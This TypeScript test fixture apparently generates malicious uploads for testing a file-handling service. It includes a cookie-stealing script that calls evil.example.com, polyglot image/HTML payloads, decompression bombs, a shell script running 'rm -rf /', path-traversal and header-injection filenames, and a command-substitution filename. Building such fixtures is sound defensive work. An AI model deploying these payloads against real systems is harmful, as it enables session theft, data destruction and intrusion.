import { deflateRawSync, gzipSync } from 'node:zlib'
import { gif, jpeg, png, webp } from '../support/images.js'

/** A file that is meant to do harm. */
export interface HostileFile {
  readonly title: string
  readonly bytes: Uint8Array
  readonly name: string
  /** The type that the client states. */
  readonly type: string
}

const script = '<script>fetch("https://evil.example.com/?"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`

const text = (content: string) => Buffer.from(content)
const after = (image: Buffer, content: string) => Buffer.concat([image, text(content)])

/** Returns a random number from 0 to 1. */
type Random = () => number

/** Contents of the files, by kind. */
const contents: Readonly<Record<string, (random: Random) => Uint8Array>> = {
  SVG: () => text(svg),
  'SVG with a declaration': () => text(`<?xml version="1.0"?><!DOCTYPE svg>${svg}`),
  HTML: () => text(`<!doctype html><html>${script}</html>`),
  'HTML with a byte order mark': () => text(`\ufeff<html>${script}</html>`),
  'HTML in UTF-16': () => Buffer.from(`\ufeff<html>${script}</html>`, 'utf16le'),
  'HTML in UTF-7': () => text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  XHTML: () => text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  'a stylesheet of XML': () => text('<?xml-stylesheet href="javascript:alert(1)"?><x/>'),
  JavaScript: () => text('alert(document.domain)//'),
  'a module': () => text('export default fetch("/")'),
  'a web archive': () =>
    text('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
  'a GIF that is a script': () => text('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//'),
  'a GIF with a script after it': () => after(gif(1, 1), script),
  'a PNG with a script after it': () => after(png(1, 1), script),
  'a JPEG with a script in its description': () => after(jpeg(1, 1, 100), script),
  'a WebP with HTML after it': () => after(webp(1, 1), svg),
  'HTML with a PNG after it': () => Buffer.concat([text(script), png(1, 1)]),
  'a PNG of 60,000 by 60,000': () => png(60_000, 60_000),
  'a PNG of 2^32 - 1': () => png(0xffff_ffff, 0xffff_ffff),
  'a GIF of 65,535 by 65,535': () => gif(65_535, 65_535),
  'a JPEG of 65,535 by 65,535': () => jpeg(65_535, 65_535),
  'a PNG that ends in its head': (random) => png(1, 1).subarray(0, 1 + Math.floor(random() * 32)),
  'a JPEG of segments without an end': () =>
    Buffer.concat([jpeg(1, 1).subarray(0, 20), Buffer.alloc(50_000, 0xff)]),
  'a JPEG of empty segments': () =>
    Buffer.concat([Buffer.of(0xff, 0xd8), Buffer.alloc(60_000, Buffer.of(0xff, 0xe0, 0, 2))]),
  'boxes within themselves': () =>
    Buffer.concat([Buffer.of(0, 0, 0, 8), text('ftypheic'), Buffer.alloc(40_000, Buffer.of(0, 0, 0, 0))]),
  'an icon list without an end': () => Buffer.concat([text('icns'), Buffer.alloc(20_000)]),
  'a TIFF whose directory is itself': () =>
    Buffer.concat([text('II*\0'), Buffer.of(8, 0, 0, 0), Buffer.alloc(5_000)]),
  'an archive that names other folders': () => text('PK\x03\x04../../../../etc/cron.d/evil'),
  'a bomb of zeros': () => gzipSync(Buffer.alloc(4_000_000)),
  'an archive with a bomb': () =>
    zipOf('[Content_Types].xml', deflateRawSync(Buffer.alloc(4_000_000)), 4_000_000),
  'a PDF with a script': () =>
    text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'a program': () => Buffer.concat([text('MZ'), Buffer.alloc(500), text('This program cannot be run')]),
  'a shell script': () => text('#!/bin/sh\nrm -rf /\n'),
  'controls for a terminal': () => text('\x1b]0;owned\x07\x1b[2J'),
  'bytes at random': (random) =>
    Buffer.from(Array.from({ length: 1 + random() * 5_000 }, () => random() * 256)),
}

const names: readonly string[] = [
  'photo.png',
  'photo.png.html',
  'photo.svg',
  'photo\u202egnp.html',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/cron.d/evil',
  'C:\\autoexec.bat',
  '....//....//evil',
  '%2e%2e%2fevil',
  'a\r\nSet-Cookie: owned=1\r\n\r\n<html>',
  '"; filename="evil.html',
  "'; filename*=UTF-8''evil.html",
  'nul\0.png',
  'CON',
  '.htaccess',
  '',
  ' ',
  '.',
  '..',
  `${'x'.repeat(5_000)}.png`,
  '😀'.repeat(300),
  'a\ud800b.png',
  '<img src=x onerror=alert(1)>.png',
  '$(touch evil).png',
]

const types = [
  'image/png',
  'text/html',
  'image/svg+xml',
  'application/javascript',
  'text/html\r\nX-Evil: 1',
  '',
  'x',
] as const

/** Returns that many files, with each content and each name among them. */
export function hostileFiles(count: number, random: Random): readonly HostileFile[] {
  const kinds = Object.entries(contents)
  return Array.from({ length: count }, (_, index) => {
    const [title, make] = kinds[index % kinds.length] ?? ['nothing', () => Buffer.of()]
    const name = names[index % names.length] ?? ''
    const type = types[index % types.length] ?? ''
    return {
      title: `${index}: ${title} as ${JSON.stringify(name).slice(0, 60)}`,
      bytes: make(random),
      name,
      type,
    }
  })
}

function zipOf(name: string, packed: Buffer, size: number): Buffer {
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(size, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, text(name), packed])
}
